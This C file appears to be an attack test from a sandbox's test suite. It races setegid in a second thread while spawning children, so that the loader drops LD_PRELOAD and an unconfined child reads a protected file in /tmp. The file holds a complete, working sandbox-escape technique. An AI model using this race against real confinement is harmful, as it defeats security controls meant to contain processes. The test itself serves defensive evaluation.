// class: children
// rule: create_child_process read_write_tmp
// policy: child-allowed.yaml
// needs: gcc root
// timeout: 60
// success: another thread makes the ids unequal while a child is started, so that the loader drops
//   LD_PRELOAD, and the child reads a file in /tmp
// proof: read
#include <pthread.h>
#include <sys/wait.h>
#include <time.h>

#include "attack.h"

static volatile int over;

static void *change(void *unused)
{
    (void)unused;
    while (!over) {
        setegid(65534);
        setegid(0);
    }
    return NULL;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + 4;
    char text[1000] = "";
    pthread_create(&thread, NULL, change, NULL);
    while (time(NULL) < end && !strstr(text, SECRET_)) {
        char command[600];
        snprintf(command, sizeof command, "exec 2>/dev/null; cat '%s'", FILE_);
        FILE *pipe = popen(command, "r");
        if (!pipe) continue;
        size_t got = fread(text, 1, sizeof text - 1, pipe);
        text[got] = '\0';
        pclose(pipe);
    }
    over = 1;
    pthread_join(thread, NULL);
    if (!strstr(text, SECRET_)) return 1;
    printf("%s\n", text);
    return reached();
}
